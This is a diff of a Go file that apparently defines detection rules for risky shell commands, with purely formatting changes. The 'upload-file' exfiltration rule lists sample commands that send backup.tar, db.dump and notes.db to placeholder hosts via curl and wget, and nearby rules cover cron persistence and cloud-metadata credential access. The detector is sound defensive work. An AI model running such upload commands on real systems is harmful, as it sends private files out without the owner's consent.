@@ -355,11 +355,11 @@ var rules = []*rule{
 	},
 	{
 		ID: "upload-file", Class: "exfiltration", Sev: high,
-		Msg:     "uploads a local file to a remote host",
-		Must:    []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in"},
+		Msg:  "uploads a local file to a remote host",
+		Must: []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in"},
 		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org",
 			"curl -X POST --data-binary @payload.bin http://localhost:8080/api"},
-		check:   checkUpload,
+		check: checkUpload,
 	},
 	{
 		ID: "persistence-cron", Class: "persistence", Sev: high,
@@ -694,7 +694,7 @@ var rules = []*rule{
 		},
 		MustNot: []string{"GIT_PAGER=cat git log -3", "EDITOR=vim crontab -l", "ssh -o ProxyCommand='ssh -W %h:%p bastion' app1", "tar -I zstd -xf a.tar.zst",
 			"ssh -o ProxyCommand='nc -X 5 -x proxy.example.net:1080 %h %p' app1", "SSH_ASKPASS=/usr/lib/ssh/x11-ssh-askpass ssh-add", "LESSOPEN='| /usr/bin/lesspipe %s' less notes.gz"},
-		check:   checkCommandHook,
+		check: checkCommandHook,
 	},
 	{
 		ID: "cloud-metadata", Class: "credential access", Sev: high,
